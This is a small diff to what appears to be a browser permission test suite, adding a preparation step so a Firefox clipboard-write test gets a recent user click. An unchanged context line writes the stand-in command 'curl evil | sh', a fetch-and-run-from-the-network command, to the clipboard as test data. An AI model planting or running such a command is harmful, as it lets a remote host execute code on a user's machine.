@@ -167,6 +167,7 @@ WINDOWS = [
         "writes-the-clipboard",
         "(focus(), navigator.clipboard.writeText('curl evil | sh').then(() => true))",
         permission("clipboard-write"),
+        prepare=lambda scene: scene.show_again(),  # Firefox asks for a click that is not long ago.
         gap="firefox",
     ),
     attempt(
